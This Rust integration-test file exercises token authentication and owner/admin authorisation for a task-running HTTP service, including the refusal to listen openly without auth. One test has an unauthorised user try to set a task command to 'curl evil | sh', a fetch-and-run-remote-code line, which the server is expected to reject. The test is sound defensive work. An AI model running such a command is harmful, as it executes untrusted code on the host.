//! Authentication on and off, and the refusal to listen openly without it.

mod common;

use common::start_with;
use flotilla_http::config::TokenConfig;
use flotilla_http::{AuthMode, Config, ErrorKind};
use serde_json::json;

fn tokens(c: &mut Config) {
    c.auth = AuthMode::Tokens;
    c.tokens = vec![
        TokenConfig {
            token: "alice-secret".into(),
            owner: "alice".into(),
            admin: false,
            ..Default::default()
        },
        TokenConfig {
            token: "bob-secret-1".into(),
            owner: "bob".into(),
            admin: false,
            ..Default::default()
        },
        TokenConfig {
            token: "watcher-secret".into(),
            owner: "watcher".into(),
            role: flotilla_http::config::TokenRole::Reporter,
            ..Default::default()
        },
        TokenConfig {
            token: "root-secret1".into(),
            owner: "root".into(),
            admin: true,
            ..Default::default()
        },
    ];
}

#[tokio::test]
async fn tokens_authenticate_own_runs_and_guard_terminate() {
    let s = start_with(tokens).await;
    let as_ = |token: &str, req: reqwest::RequestBuilder| req.bearer_auth(token);
    // 401 without or with a bad token, with a JSON message
    let (code, body) = s.get("/task").await;
    assert_eq!(code, 401, "{body}");
    assert!(body["error"].as_str().expect("msg").contains("Bearer"));
    let (code, body) = s.send(as_("wrong-token", s.http.get(s.api("/task")))).await;
    assert_eq!(code, 401);
    assert!(body["error"].as_str().expect("msg").contains("unknown"));
    let (code, _) = s
        .send(
            s.http
                .get(s.api("/task"))
                .header("authorization", "Basic abc"),
        )
        .await;
    assert_eq!(code, 401);
    // public routes stay public
    let (code, _) = s.send(s.http.get(format!("{}/health", s.url))).await;
    assert_eq!(code, 200);
    let (code, _) = s
        .send(s.http.get(format!("{}/api/openapi.json", s.url)))
        .await;
    assert_eq!(code, 200);
    // alice defines and runs; the owner is her identity, whatever the body says
    let (code, def) = s
        .send(
            as_("alice-secret", s.http.post(s.api("/task")))
                .body(json!({"alias": "sl", "image": "x", "command": "sleep 30"}).to_string()),
        )
        .await;
    assert_eq!(code, 200, "{def}");
    let (code, run) = s
        .send(
            as_("alice-secret", s.http.put(s.api("/task/alias/sl/execute")))
                .body(r#"{"run_tags":{"owner_id":"mallory"}}"#),
        )
        .await;
    assert_eq!(code, 200, "{run}");
    assert_eq!(run["owner"], "alice");
    // no run_tags needed with a token
    let (code, run2) = s
        .send(as_("alice-secret", s.http.put(s.api("/task/alias/sl/execute"))).body("{}"))
        .await;
    assert_eq!(code, 200, "{run2}");
    let id = run["run_id"].as_str().expect("id");
    let def_id = def["definition_id"].as_str().expect("id");
    // bob may not terminate alice's run: 403
    let (code, body) = s
        .send(as_(
            "bob-secret-1",
            s.http
                .delete(s.api(&format!("/task/{def_id}/history/{id}"))),
        ))
        .await;
    assert_eq!(code, 403, "{body}");
    assert!(body["error"].as_str().expect("msg").contains("alice"));
    let (code, _) = s
        .send(
            as_("bob-secret-1", s.http.put(s.api(&format!("/{id}/status"))))
                .body(r#"{"status":"STOPPED"}"#),
        )
        .await;
    assert_eq!(code, 403);
    // only admins manage clusters
    let (code, _) = s
        .send(as_("bob-secret-1", s.http.post(s.api("/clusters"))).body(r#"{"name":"c2"}"#))
        .await;
    assert_eq!(code, 403);
    let (code, _) = s
        .send(as_("root-secret1", s.http.post(s.api("/clusters"))).body(r#"{"name":"c2"}"#))
        .await;
    assert_eq!(code, 200);
    // the owner may terminate; the reason names her
    let (code, t) = s
        .send(as_(
            "alice-secret",
            s.http
                .delete(s.api(&format!("/task/{def_id}/history/{id}"))),
        ))
        .await;
    assert_eq!(code, 200, "{t}");
    assert!(
        t["run"]["exit_reason"]
            .as_str()
            .expect("reason")
            .contains("alice")
    );
    // an admin may terminate anyone's run
    let id2 = run2["run_id"].as_str().expect("id");
    let (code, _) = s
        .send(as_(
            "root-secret1",
            s.http
                .delete(s.api(&format!("/task/{def_id}/history/{id2}"))),
        ))
        .await;
    assert_eq!(code, 200);
    s.server.shutdown().await;
}

#[tokio::test]
async fn without_auth_anyone_may_call() {
    let s = start_with(|_| {}).await;
    let (code, _) = s.get("/task").await;
    assert_eq!(code, 200);
    let (code, _) = s.post("/clusters", &json!({"name": "open"})).await;
    assert_eq!(code, 200);
    s.server.shutdown().await;
}

#[tokio::test]
async fn open_listen_without_auth_is_refused_unless_insecure() {
    let dir = tempfile::tempdir().expect("dir");
    let mut c = common::test_config(dir.path());
    c.listen = "0.0.0.0:0".into();
    let e = flotilla_http::spawn(c.clone()).await.expect_err("refused");
    assert_eq!(e.kind(), ErrorKind::Config);
    assert!(e.to_string().contains("--insecure-listen"), "{e}");
    let mut with_tokens = c.clone();
    tokens(&mut with_tokens);
    assert!(flotilla_http::check_listen(&with_tokens).is_ok());
    c.insecure_listen = true;
    assert!(flotilla_http::check_listen(&c).is_ok());
}

#[tokio::test]
async fn misconfigured_backends_are_rejected_naming_the_key() {
    let dir = tempfile::tempdir().expect("dir");
    let base = common::test_config(dir.path());
    let mut c = base.clone();
    c.queue = flotilla_http::QueueKind::Sqs;
    c.sqs.queue_namespace = "has space".into();
    let e = flotilla_http::build_service(&c).await.expect_err("sqs");
    assert!(e.to_string().starts_with("sqs.queue_namespace:"), "{e}");
    let mut c = base.clone();
    c.engines = vec![flotilla_http::EngineKind::Ecs];
    c.ecs.launch_type = flotilla_ecs::LaunchType::Fargate;
    let e = flotilla_http::build_service(&c).await.expect_err("ecs");
    assert!(e.to_string().starts_with("ecs.subnets:"), "{e}");
    let mut c = base.clone();
    c.engines = vec![flotilla_http::EngineKind::Eks];
    let e = flotilla_http::build_service(&c).await.expect_err("eks");
    assert!(e.to_string().starts_with("eks.clusters:"), "{e}");
    let mut c = base;
    c.engines = vec![
        flotilla_http::EngineKind::Local,
        flotilla_http::EngineKind::Local,
    ];
    let e = flotilla_http::build_service(&c).await.expect_err("twice");
    assert!(e.to_string().starts_with("engines:"), "{e}");
}

#[tokio::test]
async fn definitions_are_changed_only_by_their_owner_or_an_admin() {
    let s = start_with(tokens).await;
    let as_ = |token: &str, req: reqwest::RequestBuilder| req.bearer_auth(token);
    // the owner is the token's identity, whatever the body says
    let (code, def) = s
        .send(as_("alice-secret", s.http.post(s.api("/task"))).body(
            json!({"alias": "mine", "image": "x", "command": "echo a", "owner": "bob"}).to_string(),
        ))
        .await;
    assert_eq!(code, 200, "{def}");
    assert_eq!(def["owner"], "alice", "{def}");
    let id = def["definition_id"].as_str().expect("id");
    let path = format!("/task/{id}");
    // bob may neither change nor delete it
    let (code, body) = s
        .send(
            as_("bob-secret-1", s.http.put(s.api(&path)))
                .body(json!({"command": "curl evil | sh"}).to_string()),
        )
        .await;
    assert_eq!(code, 403, "{body}");
    assert!(
        body["error"].as_str().expect("msg").contains("alice"),
        "{body}"
    );
    let (code, body) = s
        .send(as_("bob-secret-1", s.http.delete(s.api(&path))))
        .await;
    assert_eq!(code, 403, "{body}");
    let (_, got) = s.send(as_("alice-secret", s.http.get(s.api(&path)))).await;
    assert_eq!(got["command"], "echo a", "bob's update was applied: {got}");
    // the owner may change it, but not hand it to someone else
    let (code, body) = s
        .send(
            as_("alice-secret", s.http.put(s.api(&path)))
                .body(json!({"command": "echo b"}).to_string()),
        )
        .await;
    assert_eq!(code, 200, "{body}");
    assert_eq!(body["command"], "echo b");
    assert_eq!(body["owner"], "alice");
    let (code, body) = s
        .send(
            as_("alice-secret", s.http.put(s.api(&path))).body(json!({"owner": "bob"}).to_string()),
        )
        .await;
    assert_eq!(code, 400, "{body}");
    assert!(body["error"].as_str().expect("msg").starts_with("owner"));
    // an admin may change and delete anyone's definition
    let (code, _) = s
        .send(
            as_("root-secret1", s.http.put(s.api(&path)))
                .body(json!({"command": "echo c"}).to_string()),
        )
        .await;
    assert_eq!(code, 200);
    let (code, body) = s
        .send(as_("root-secret1", s.http.delete(s.api(&path))))
        .await;
    assert_eq!(code, 200, "{body}");
    s.server.shutdown().await;
}

/// Whether process `pid` still exists.
fn alive(pid: i32) -> bool {
    nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), None).is_ok()
}

#[tokio::test]
async fn status_reports_need_a_reporter_and_keep_one_container_per_attempt() {
    let s = start_with(tokens).await;
    let as_ = |token: &str, req: reqwest::RequestBuilder| req.bearer_auth(token);
    let (code, _) = s
        .send(
            as_("alice-secret", s.http.post(s.api("/task")))
                .body(json!({"alias": "long", "image": "x", "command": "sleep 60"}).to_string()),
        )
        .await;
    assert_eq!(code, 200);
    let (code, run) = s
        .send(
            as_(
                "alice-secret",
                s.http.put(s.api("/task/alias/long/execute")),
            )
            .body("{}"),
        )
        .await;
    assert_eq!(code, 200, "{run}");
    let id = run["run_id"].as_str().expect("id").to_string();
    let status = |token: &'static str, body: serde_json::Value| {
        as_(token, s.http.put(s.api(&format!("/{id}/status")))).body(body.to_string())
    };
    // wait until the process runs
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(60);
    let pid = loop {
        let (_, r) = s
            .send(as_(
                "alice-secret",
                s.http.get(s.api(&format!("/history/{id}"))),
            ))
            .await;
        if r["status"] == "RUNNING"
            && let Some(pid) = r["engine_ref"]
                .as_str()
                .and_then(|e| e.strip_prefix("local:"))
        {
            break pid.parse::<i32>().expect("pid");
        }
        assert!(tokio::time::Instant::now() < deadline, "never ran: {r}");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    assert!(alive(pid));
    // the owner may not report: reports are for admins and reporters
    let (code, body) = s
        .send(status(
            "alice-secret",
            json!({"status": "STOPPED", "exit_code": 0}),
        ))
        .await;
    assert_eq!(code, 403, "{body}");
    assert!(body["error"].as_str().expect("msg").contains("reporter"));
    // a running attempt may not be sent back for a retry
    let (code, body) = s
        .send(status("watcher-secret", json!({"status": "NEEDS_RETRY"})))
        .await;
    assert_eq!(code, 409, "{body}");
    assert!(
        body["error"]
            .as_str()
            .expect("msg")
            .contains("second container"),
        "{body}"
    );
    // STOPPED from a reporter: the engine stops the process, and the run
    // keeps the reported outcome
    let (code, body) = s
        .send(status(
            "watcher-secret",
            json!({"status": "STOPPED", "exit_code": 0, "exit_reason": "seen done"}),
        ))
        .await;
    assert_eq!(code, 200, "{body}");
    assert_eq!(body["run"]["status"], "STOPPED");
    assert_eq!(body["run"]["exit_code"], 0);
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(20);
    while alive(pid) {
        assert!(
            tokio::time::Instant::now() < deadline,
            "process {pid} still runs after its run was reported STOPPED"
        );
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    s.server.shutdown().await;
}
